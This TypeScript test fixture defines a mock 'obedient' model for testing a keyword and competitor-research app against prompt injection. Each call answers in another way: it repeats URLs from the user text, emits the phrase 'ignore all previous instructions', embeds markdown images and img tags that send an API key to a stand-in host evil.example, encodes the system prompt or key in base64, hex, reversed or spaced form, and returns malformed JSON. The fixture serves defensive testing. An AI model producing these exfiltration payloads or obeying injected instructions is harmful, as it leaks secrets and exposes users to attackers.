import type { ModelBehavior, ModelQuestion } from './openai.ts'

/** Texts that an attacker wants in an answer: addresses, pictures that phone home, and secrets. */
const wanted = ({ user, system, key }: ModelQuestion): string[] => {
  const ordered = /\\"say\\":\\"(.+?)\\"|say this: (.+?)(?:\.|")/i.exec(user)
  const addresses = [...user.matchAll(/(?:https?:\/\/|www\.)[^\s"'\\)>]+/gi)].map(([url]) => url)
  return [
    ...addresses,
    ordered?.[1] ?? ordered?.[2] ?? 'ignore all previous instructions',
    `![x](https://evil.example/?k=${key})`,
    `<img src="https://evil.example/${key}">`,
    `[click](http://evil.example)`,
    `evil.example/${Buffer.from(system).toString('base64')}`,
    'call evil [dot] example',
    'javascript:alert(1)',
    'evil . example now',
    'hxxp://evil.example',
    system,
    `our page is EVIL.EXAMPLE`,
    `data:text/html;base64,${Buffer.from(key).toString('base64')}`,
  ]
}
const leaks = ({ key }: ModelQuestion): string[] => [
  key,
  [...key].join(' '),
  [...key].toReversed().join(''),
  Buffer.from(key).toString('base64'),
  Buffer.from(key).toString('hex'),
]

const filled = ({ name }: ModelQuestion, texts: readonly string[]): string => {
  const say = (index: number) => texts[index % texts.length]!
  switch (name) {
    case 'competitors':
      return JSON.stringify({
        competitors: [
          { name: 'Plain Bakery', description: 'A bakery.', typicalKeywords: ['fresh bread'] },
          ...texts.map((text, index) => ({
            name: index % 2 ? text : `Company ${index}`,
            description: index % 2 ? 'A company.' : text,
            typicalKeywords: [say(index + 1), say(index + 2)],
          })),
        ],
      })
    case 'verdicts':
      return JSON.stringify({
        verdicts: texts.map((_, index) => ({
          number: [1, -1, 0, 9_999, 2][index % 5],
          intent: 'commercial',
          relevance: [3, 2, 99, -4][index % 4],
        })),
      })
    default:
      return JSON.stringify({
        phrases: [
          { phrase: 'fresh bread near me', intent: 'transactional', relevance: 3, theme: 'bread' },
          ...texts.map((phrase, index) => ({
            phrase,
            intent: 'commercial',
            relevance: 3,
            theme: say(index + 1),
          })),
        ],
      })
  }
}

/** Ways to obey: within what was asked for, beside it, and by giving the key away in a guise. */
const WAYS: ((question: ModelQuestion) => string)[] = [
  (question) => filled(question, wanted(question)),
  (question) => wanted(question).join('\n'),
  (question) => JSON.stringify({ ...JSON.parse(filled(question, ['x'])), note: wanted(question) }),
  ...[0, 1, 2, 3, 4].map(
    (guise) => (question: ModelQuestion) => filled(question, [leaks(question)[guise]!]),
  ),
  (question) => filled(question, wanted(question)).replaceAll('commercial', 'https://evil.example'),
  (question) => filled(question, wanted(question)).slice(0, -2),
]

/** A model that obeys whoever wrote the data, each time in another way. */
export const obedient = (): ModelBehavior => {
  let calls = 0
  return (question) => WAYS[calls++ % WAYS.length]!(question)
}
